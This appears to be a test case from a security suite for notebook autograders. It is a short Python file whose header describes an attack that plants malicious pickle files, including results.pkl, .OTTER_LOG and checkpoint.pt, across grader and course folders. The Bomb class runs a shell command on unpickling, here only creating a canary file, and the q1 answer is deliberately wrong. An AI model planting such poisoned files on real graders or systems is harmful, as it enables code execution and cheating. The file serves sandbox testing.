# ---
# attack: Leaves pickles that run code under every name that a grader might load.
# class: 'pickles in results, checkpoints, logs'
# sandboxes: [namespaces]
# ---
# %% before="q1"
import os
import pickle


class Bomb:
    def __reduce__(self):
        return os.system, ("touch <<HOST>>/canary_pickle",)


for name in ("results.pkl", ".OTTER_LOG", "checkpoint.pt", "model.ckpt", "otter_results.pkl", "history.pickle"):
    for folder in (".", "/tmp", "<<COURSE>>", "<<COURSE>>/.autograder", "<<HOST>>", "/data"):
        try:
            with open(os.path.join(folder, name), "wb") as file:
                pickle.dump(Bomb(), file)
        except OSError:
            pass

# %% question="q1"
def double(x):
    return np.asarray(x) - 100
